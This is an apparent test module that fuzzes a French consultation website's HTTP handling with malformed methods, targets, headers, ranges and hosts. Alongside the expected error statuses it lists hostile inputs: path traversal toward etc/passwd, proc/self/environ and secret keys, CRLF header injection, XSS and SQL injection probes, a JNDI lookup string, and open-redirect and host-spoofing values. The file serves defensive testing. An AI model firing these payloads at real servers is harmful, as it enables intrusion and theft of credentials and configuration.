"""Requests of odd methods, targets, heads and conditions, for every kind of page."""

from tests.hostile.cases import drawn
from tests.hostile.wire import HOST, MARK, NOT_READ, REFUSED, Wire, request

PAGES = (
    "/", "/en/", "/mesures", "/mesures/T7", "/mesures/T7/contribuer", "/en/mesures/T7/contribuer",
    "/outil/contribuer", "/recu/zq", "/resultats", "/resultats/T7", "/accessibilite",
    "/donnees-personnelles", "/securite", "/healthz", "/readyz", "/.well-known/security.txt",
    "/contributions/", "/contributions/retrouver", "/contributions/ouvrir/zq", "/connexion",
    "/connexion/oubli", "/organisation/", "/organisation/contributions", "/moderation",
    "/administration/comptes", "/static/consultation.css", "/static/icon.svg", "/static/zq",
    "/nulle-part",
)  # fmt: skip
"""One of each kind: public, a respondent's, the team's, for machines, static, and not there."""

READING = ("GET", "HEAD", "OPTIONS")
REGISTERED = ("PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "MKCOL", "LOCK", "SEARCH")
MADE_UP = ("PURGE", "BREW", "GETT", "G", "M-SEARCH", "!#$%&'*+-.^_`|~1", "X" * 8000, "__CLASS__")
NO_METHODS = ("get", "Post", "hEAD", "G\u00c9T", "GE\tT", "GET,", "<ZQ>", "(GET)", "GET\x00")
ENDLESS = "Z" * 70_000


def methods(chance, count):
    """What may be asked of a page, what only other sites know, and what is no method at all."""
    known = (*READING, *READING, *REGISTERED, *MADE_UP)
    for method, page in drawn(chance, count - count // 4, known, PAGES):
        fit = None if method in READING else REFUSED
        lines = ("Content-Length: 0",) if method in ("PUT", "PATCH") else ()
        yield Wire("methods", request(method, page, *lines), (method,), fit)
    for method, page in drawn(chance, count // 4, (*NO_METHODS, ENDLESS), PAGES):
        fit = frozenset({431}) if method is ENDLESS else NOT_READ
        yield Wire("methods", request(method, page), ("GET",), fit)


FORMS = (
    "{}", "http://consultation.example{}", "HTTPS://AILLEURS.invalid{}", "http://u:p@h:99999{}",
    "http://[::1]:80{}", "http://ailleurs.invalid\\@x{}", "//ailleurs.invalid{}",
    "/\\ailleurs.invalid{}", "///ailleurs.invalid{}", "/%2f%2failleurs.invalid{}",
    "/%5cailleurs.invalid{}", "javascript:zq{}", "/.{}", "/./{}", "//{}", "/en{}", "/en/en{}",
    "/fr{}", "/%65n{}", "\\{}", "?{}", "*{}", "x{}",
)  # fmt: skip
ENDS = (
    "", "/", "//", "/.", ";zq=1", ";jsessionid=zq", "%00", "%00.css", "\x00", "%", "%z", "%zz",
    "%ff%fe", "%c0%af", "%ed%a0%80", "%F0%9F%92%A7", "\u00e9", "\u00ff\u00fe", "%0d%0aX-Zq:%201",
    "%0a", "\t", "\x7f", "\x1b[2J", "#zq", "#", MARK, "%22%3E%3Csvg/onload=zq%3E", "/" + MARK,
    "{{7*7}}", "%25%32%65", "~", ".html", ".php", ".git", "?", "??", f"?q={MARK}", "?q=%00",
    "?q=%ff%fe", "?q=%zz", "?q[]=zq&q[a]=zq", "?" + "q=zq&" * 900, "?q=" + "z" * 30_000,
    "/" + "z" * 9_000, "/a" * 4_000, "/.." * 900, "?next=https://ailleurs.invalid/",
    "?q=zq%0d%0aSet-Cookie:zq=1", "?axe=%27%20OR%201=1--", "?page=-1", "?page=99999999999999999999",
    f"?retour=//ailleurs.invalid/{MARK}", "?v=zq", "?\u00e9=\u00ff", "?&&&===&", "?q=zq;q=zq",
)  # fmt: skip
NO_TARGETS = ("http://[", "http://[::1", "https://zq]", "//[", "http://\xe2\x84\x80")
UPWARDS = (
    "/static/../", "/static/..%2f", "/static/%2e%2e/", "/static/%2e%2e%2f", "/static/....//",
    "/static/..\\", "/static/..%5c", "/static/.%00./", "/static/%252e%252e%252f", "/static//",
    "/static/vendor/../../", "/static/..;/", "/static/%c0%ae%c0%ae/", "/static/file:///", "/../",
    "/mesures/../../", "/%2e%2e/%2e%2e/", "/static/~root/", "/static/C:\\", "/static/./../",
)  # fmt: skip
HIDDEN = (
    "etc/passwd", "consultation/settings.py", "pyproject.toml", "keys/secret_key", 
    "database.sqlite",     "proc/self/environ", ".git/config", "templates/base.html",
)  # fmt: skip


def targets(chance, count):
    """Addresses in every form that a request may have, with every end; and ways out of a folder."""
    few = count // 5
    for written_again in (f"/mesures/{MARK}", f"/mesures?q={MARK}"):
        yield Wire("targets", request("GET", written_again))
    for form, page, end in drawn(chance, count - 2 * few - 2, FORMS, PAGES, ENDS):
        yield Wire("targets", request("GET", form.format(page) + end))
    for up, times, name in drawn(chance, few, UPWARDS, range(1, 8), HIDDEN):
        target = up + up.removeprefix("/static/") * (times - 1) + name
        yield Wire("targets", request("GET", target), statuses=REFUSED | {308})
    for method, start, page in drawn(chance, few, ("GET", "HEAD", "POST"), NO_TARGETS, PAGES):
        sent = request(method, start + page, "Content-Length: 0")
        yield Wire("targets", sent, (method,), REFUSED)


HEADS = (
    f"Cookie: space={MARK}; staff=zq", "Cookie: " + "zq=1; " * 2000, "Cookie: =;=;;,\"\\",
    "Cookie:",
    *(f"{name}: {MARK}" for name in (
        "Referer", "User-Agent", "Origin", "Sec-Fetch-Site", "Accept-Language", "Accept", "Via",
        "X-Forwarded-Host", "X-Forwarded-For", "X-Forwarded-Prefix", "X-Forwarded-Proto",
        "X-Request-Id", "Content-Type", "If-None-Match", "X-Zq", "From", "Accept-Charset",
    )),
    "X-HTTP-Method-Override: DELETE", "X-Method-Override: PUT", "X-Original-URL: /administration/",
    "X-Rewrite-URL: //ailleurs.invalid/", "Forwarded: for=\"[::zq\";host=ailleurs.invalid;proto=x",
    "X-Forwarded-For: " + ", ".join(["192.0.2.7"] * 999), "X-Forwarded-Port: zq",
    "Accept-Language: fr;q=1e999, en;q=nan, *;q=-1, zq;q=", "Accept-Language: " + "x-" * 3000,
    "Accept-Encoding: gzip;q=x, identity;q=0, *;q=0", "Accept-Encoding: br, \x80",
    "Accept: ;;;,,,*/*;q=zq", "Authorization: Basic zq", "Authorization: Bearer " + "zq" * 4000,
    "Authorization: Digest realm=\"zq", "Authentication-Token: zq", "Proxy-Authorization: Basic =",
    "Connection: close, Host", "Connection: keep-alive, zq", "Upgrade: websocket", "Upgrade: h2c",
    "HTTP2-Settings: AAMAAABkAAQAAP__", "Sec-WebSocket-Key: zq", "TE: trailers, deflate;q=zq",
    "Trailer: Content-Length", "Keep-Alive: timeout=-1, max=zq", "Max-Forwards: 0", "Date: zq",
    "Cache-Control: max-age=zq, no-store, =", "Pragma: ,", "Warning: 999 zq", "Expect:",
    "Expect: 100-continue", "Expect: 200-ok, zq", "DNT: zq", "Save-Data: \u00e9\u00ff",
    "User-Agent: ${jndi:ldap://ailleurs.invalid/zq} {{7*7}} %s\x80\xff", "Zq: " + "z" * 60_000,
    "Z" * 9000 + ": zq", "Zq: a\r\n folded\r\n\tagain", "Zq:", "Zq: \t ", "!#$%&'*+-.^_`|~: zq",
    "Content_Length: 99", "Transfer_Encoding: chunked", "__proto__: zq", "Content-Type: text/zq",
    "\r\n".join(f"X-{number}: zq" for number in range(2000)), "\r\n".join(["Accept: */*"] * 500),
)  # fmt: skip
NO_HEADS = (
    "zq", ": zq", "Zq : zq", "Zq\t: zq", "Z q: zq", "Zq: a\x00b", "Zq: a\rb", "Zq: a\nX-B: b",
    "Zq: \x01", "Zq: a\x7fb", "Z\u00e9: zq", "\x00: zq", "(Zq): zq", "Zq: a\r b", "<zq>: zq",
    "Zq@: zq", "\"Zq\": zq", "\x0bZq: zq", "\ufffd".encode().decode("latin-1") + ": zq",
)  # fmt: skip


def heads(chance, count):
    """Headers with what nobody expects in them, folded, repeated, too many; and what is none."""
    few = count // 5
    for first, second, page in drawn(chance, count - 2 * few, HEADS, HEADS, PAGES):
        size = len(first) + len(second)
        fit = frozenset({431}) if size > 65_536 else None
        yield Wire("heads", request("GET", page, first, second), statuses=fit)
    for line, other, page in drawn(chance, few, NO_HEADS, ("Accept: */*", "Zq: zq"), PAGES):
        yield Wire("heads", request("GET", page, other, line), statuses=NOT_READ)
    for method, line, page in drawn(chance, few, ("HEAD", "OPTIONS"), (*HEADS, *NO_HEADS), PAGES):
        yield Wire("heads", request(method, page, line), (method,))


RANGES = (
    "bytes=0-5", "bytes=0-0", "bytes=-5", "bytes=5-", "bytes=0-5,10-15", "bytes=5-0",
    "bytes=999999999-", "bytes=-0", "bytes=0-" + "9" * 5000, "bytes=--5", "bytes=zq", "lines=0-5",
    "bytes=" + ",".join(f"{number}-{number}" for number in range(1000)), "bytes 0-5", "", "bytes=",
    "bytes=0-5\r\nRange: bytes=6-9", "bytes=0x0-0x5", "bytes=\u00b2-5",
)  # fmt: skip
CONDITIONS = (
    "Accept: */*", "If-Range: zq", 'If-Range: "zq"', "If-Range: Thu, 01 Jan 1970 00:00:00 GMT",
    "If-None-Match: *", 'If-None-Match: W/"zq", "', "If-None-Match: " + '"zq",' * 900,
    'If-Match: "zq"', "If-Match: *", "If-Modified-Since: zq", "If-Modified-Since: 99999999999999",
    "If-Modified-Since: Fri, 31 Dec 9999 23:59:60 GMT", "If-Unmodified-Since: Thu, 01 Jan 1970",
    "If-Modified-Since: Thu, 01 Jan 1970 00:00:00 +9999", "Accept-Encoding: gzip",
    "If-Modified-Since: Sun, 00 Jan 0000 00:00:00 GMT\r\nIf-None-Match: zq",
)  # fmt: skip


def conditions(chance, count):
    """Parts of what there is, and answers only if something is so."""
    pages = (*PAGES, *["/static/consultation.css", "/static/icon.svg", "/static/form.js"] * 8)
    for part, only, page, method in drawn(chance, count, RANGES, CONDITIONS, pages, READING):
        yield Wire("conditions", request(method, page, f"Range: {part}", only), (method,))


HOSTS = (
    "Host: ailleurs.invalid", "Host: consultation.example:99999", "Host: [::1]", "Host: [::1",
    f"Host: {MARK}", "Host:", "Host: \u00e9\u00ff", "Host: a@b", "Host: a/b?c#d", "Host: 0x7f.1",
    "Host: " + "z" * 9000, "Host: zq:zq", "Host: ..", "Host: -", "Host: a b", "host: zq",
)  # fmt: skip
NO_HOSTS = ("", f"{HOST}\r\n{HOST}", f"{HOST}\r\nHost: ailleurs.invalid", "Host: a, b", "Hosts: zq")


def hosts(chance, count):
    """Hosts that are not ours, or are none; without one, or with two, nothing is answered."""
    few = count // 4
    for host, page, method in drawn(chance, count - few, HOSTS, PAGES, READING):
        yield Wire("hosts", request(method, page, host=host), (method,))
    for host, page, method in drawn(chance, few, NO_HOSTS, PAGES, READING):
        yield Wire("hosts", request(method, page, host=host), (method,), NOT_READ)
